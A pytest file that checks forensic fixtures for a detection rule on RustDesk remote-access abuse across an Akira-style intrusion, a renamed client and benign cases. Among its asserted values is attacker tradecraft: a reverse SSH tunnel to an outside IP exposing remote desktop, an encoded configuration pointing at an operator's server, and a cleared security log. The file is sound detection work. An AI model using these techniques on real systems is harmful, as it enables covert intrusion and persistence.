from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING, Any, Final

import pytest

from fixtures.build import HERE
from parsers.filetime import TICKS_PER_SECOND, from_text
from tests.fixture_reading import (
    LOGS,
    MANIFEST,
    SYSMON_LOG,
    SYSTEM_HIVE,
    file_name,
    has,
    open_hive,
    read_log,
    rule_processes,
)

if TYPE_CHECKING:
    from tests.builders.independent_readers import Reading

ROLES: Final = {"FS01": "ServerNT", "APP02": "ServerNT", "DC02": "LanmanNT", "WS11": "WinNT"}
SERVICES: Final = "ControlSet001\\Services"
FIREWALL: Final = f"{LOGS}/Microsoft-Windows-Windows Firewall With Advanced Security%4Firewall.evtx"
RULES: Final = f"{SERVICES}\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules"
SERVER_LOG: Final = (
    "Windows/ServiceProfiles/LocalService/AppData/Roaming/RustDesk/log/server/rustdesk_rCURRENT.log"
)


def of_id(path: str, *event_ids: int) -> list[Reading]:
    return [each for each in read_log(path) if each.event_id in event_ids]


def switches(case: str) -> list[str]:
    """What follows the program in the command lines that the shipped rule finds, in order."""
    rows = rule_processes(read_log(f"{case}/{SYSMON_LOG}"))
    lines = (each.fields["CommandLine"].rpartition(".exe")[2].strip('" ') for each in rows)
    return [line.split(" ")[0] for line in lines]


def value(path: str, key: str, name: str) -> Any:  # noqa: ANN401 - python-registry has no types
    return open_hive(f"{path}/{SYSTEM_HIVE}").open(key).value(name).value()


@pytest.mark.parametrize("machine", ROLES)
def test_each_machine_of_the_intrusion_says_what_it_is_for(machine: str) -> None:
    key = "ControlSet001\\Control\\ProductOptions"
    assert value(f"case-akira/{machine}", key, "ProductType") == ROLES[machine]


def test_rustdesk_is_on_the_two_servers_only() -> None:
    names = {
        machine: [
            key.name() for key in open_hive(f"case-akira/{machine}/{SYSTEM_HIVE}").open(SERVICES).subkeys()
        ]
        for machine in ROLES
    }
    assert {machine: each.count("RustDesk") for machine, each in names.items()} == {
        "FS01": 1,
        "APP02": 1,
        "DC02": 0,
        "WS11": 0,
    }


@pytest.mark.parametrize("machine", ["DC02", "WS11"])
def test_no_log_of_the_other_machines_names_rustdesk(machine: str) -> None:
    logs = [
        path for path in MANIFEST["files"] if path.startswith(f"case-akira/{machine}/") and ".evtx" in path
    ]
    texts = [text for path in logs for each in read_log(path) for text in each.fields.values()]
    assert not [text for text in texts if "rustdesk" in text.lower()]


def test_the_file_server_is_installed_configured_and_come_back_to() -> None:
    assert switches("case-akira/FS01") == [
        "--silent-install",
        "--silent-install",
        "--uninstall-cert",
        "--uninstall-amyuni-idd",
        "--import-config",
        "--service",
        "--install-remote-printer",
        "--tray",
        "--server",
        "--config",
        "--password",
        "--get-id",
        "--server",
        "--cm",
        "--tray",
    ]


def test_an_msi_makes_one_service_and_an_exe_makes_two() -> None:
    counts = [len(of_id(f"case-akira/{each}/{LOGS}/Security.evtx", 4697)) for each in ("FS01", "APP02")]
    assert counts == [2, 1]


def test_the_configuration_string_decodes_to_the_operators_server() -> None:
    rows = rule_processes(read_log(f"case-akira/FS01/{SYSMON_LOG}"))
    line = next(each.fields["CommandLine"] for each in rows if " --config " in each.fields["CommandLine"])
    text = line.rpartition(" ")[2]
    assert text.endswith("iojI0N3boJye")
    backwards = text[::-1]
    settings = json.loads(base64.urlsafe_b64decode(backwards + "=" * (-len(backwards) % 4)))
    options = (
        HERE
        / "case-akira/FS01"
        / SERVER_LOG.replace("log/server/rustdesk_rCURRENT.log", "config/RustDesk2.toml")
    )
    assert settings["host"] == "rd.northlight.example"
    assert f"custom-rendezvous-server = '{settings['host']}'" in options.read_text("utf-8")


def test_a_logon_from_the_loopback_address_comes_between_the_connection_and_its_manager() -> None:
    console = [
        each
        for each in of_id(f"case-akira/FS01/{LOGS}/Security.evtx", 4624)
        if (each.fields["LogonType"], each.fields["IpAddress"]) == ("2", "127.0.0.1")
    ]
    rows = rule_processes(read_log(f"case-akira/FS01/{SYSMON_LOG}"))
    manager = next(each for each in rows if each.fields["CommandLine"].endswith(" --cm"))
    line = next(
        text for text in (HERE / "case-akira/FS01" / SERVER_LOG).read_text().splitlines() if "opened" in text
    )
    opened = from_text(line[1:27]) - 3600 * TICKS_PER_SECOND
    assert line[28:34] == "+01:00"
    assert opened < console[0].created < manager.created
    assert manager.created - opened < 60 * TICKS_PER_SECOND


def test_the_tunnel_is_within_a_day_of_the_same_users_installation() -> None:
    processes = of_id(f"case-akira/DC02/{SYSMON_LOG}", 1)
    tunnel = next(each for each in processes if file_name(each.fields["Image"]) == "ssh.exe")
    install = rule_processes(read_log(f"case-akira/FS01/{SYSMON_LOG}"))[0]
    assert tunnel.fields["CommandLine"] == "ssh root@203.0.113.84 -R *:10400 -p22"
    assert tunnel.fields["User"] == install.fields["User"] == "HARBOUR\\adm.reid"
    hours = (tunnel.created - install.created) / TICKS_PER_SECOND / 3600
    assert 23 < hours < 24


def test_what_came_out_of_the_tunnel_went_to_remote_desktop() -> None:
    connections = of_id(f"case-akira/DC02/{SYSMON_LOG}", 3)
    ends = [(each.fields["DestinationIp"], each.fields["DestinationPort"]) for each in connections]
    assert ends == [("203.0.113.84", "22"), ("127.0.0.1", "3389"), ("127.0.0.1", "3389")]


def test_the_cleared_log_begins_with_its_clearing() -> None:
    first = read_log(f"case-akira/DC02/{LOGS}/Security.evtx")[0]
    assert first.event_id == 1102


def test_the_firewalls_log_and_the_hive_name_the_same_rules() -> None:
    for machine, event_id in (
        ("case-akira/FS01", 2004),
        ("case-akira/APP02", 2004),
        ("case-rebranded", 2097),
    ):
        added = {each.fields["RuleId"].upper() for each in of_id(f"{machine}/{FIREWALL}", event_id)}
        kept = {each.name() for each in open_hive(f"{machine}/{SYSTEM_HIVE}").open(RULES).values()}
        assert len(added) == 2
        assert added <= kept


def test_the_client_under_another_name_has_its_own_only_in_the_broker_and_the_driver() -> None:
    logs = [
        path for path in MANIFEST["files"] if path.startswith("case-rebranded/") and path.endswith(".evtx")
    ]
    texts = {text for path in logs for each in read_log(path) for text in each.fields.values()}
    named = [text for text in texts if has(text, "rustdesk")]
    assert named
    assert all("RuntimeBroker_rustdesk.exe" in text for text in named)
    printer = "ControlSet001\\Control\\Print\\Printers\\Acme-Support Printer"
    assert value("case-rebranded", printer, "Printer Driver") == "RustDesk v4 Printer Driver"


def test_the_rule_finds_one_process_of_the_client_under_another_name() -> None:
    rows = rule_processes(read_log(f"case-rebranded/{SYSMON_LOG}"))
    assert [file_name(each.fields["Image"]) for each in rows] == ["RuntimeBroker_rustdesk.exe"]


def test_a_portable_run_leaves_no_service_and_no_registry_value() -> None:
    assert of_id(f"case-portable/{SYSMON_LOG}", 12, 13) == []
    assert of_id(f"case-portable/{LOGS}/Security.evtx", 4697) == []
    names = [key.name() for key in open_hive(f"case-portable/{SYSTEM_HIVE}").open(SERVICES).subkeys()]
    assert "RustDesk" not in names


def test_a_portable_run_is_out_of_the_systems_own_profile() -> None:
    rows = rule_processes(read_log(f"case-portable/{SYSMON_LOG}"))
    assert {each.fields["User"] for each in rows} == {"NT AUTHORITY\\SYSTEM"}
    assert all("\\config\\systemprofile\\" in each.fields["Image"] for each in rows)
    assert switches("case-portable") == ["/S", "/S"]


def test_a_removed_service_is_in_the_older_control_set_only() -> None:
    hive = open_hive(f"case-removed/{SYSTEM_HIVE}")
    names = [[key.name() for key in hive.open(f"ControlSet00{each}\\Services").subkeys()] for each in (1, 2)]
    assert ["RustDesk" in each for each in names] == [False, True]


def test_a_removal_deletes_the_services_key_and_both_rules() -> None:
    changes = of_id(f"case-removed/{SYSMON_LOG}", 12)
    deleted = [each.fields["TargetObject"] for each in changes if each.fields["EventType"] == "DeleteKey"]
    assert deleted == ["HKLM\\System\\CurrentControlSet\\Services\\RustDesk"]
    assert len(of_id(f"case-removed/{FIREWALL}", 2006)) == 2
    kept = open_hive(f"case-removed/{SYSTEM_HIVE}").open(RULES).values()
    assert not any("RustDesk" in each.value() for each in kept)


def test_an_update_runs_as_the_system_under_the_server() -> None:
    updates = of_id(f"case-authorised/LT31/{SYSMON_LOG}", 1)
    batch = next(each for each in updates if "RustDesk_update-msi.bat" in each.fields["CommandLine"])
    assert batch.fields["User"] == "NT AUTHORITY\\SYSTEM"
    assert batch.fields["ParentCommandLine"].endswith(" --server")


def test_one_laptop_tells_its_executions_by_4688_alone() -> None:
    files = [path for path in MANIFEST["files"] if path.startswith("case-authorised/LT32/")]
    assert not any("Sysmon" in path for path in files)
    audited = of_id(f"case-authorised/LT32/{LOGS}/Security.evtx", 4688)
    assert any(each.fields["CommandLine"].endswith("--update") for each in audited)
    assert len(of_id(f"case-authorised/LT32/{LOGS}/System.evtx", 7045)) == 1
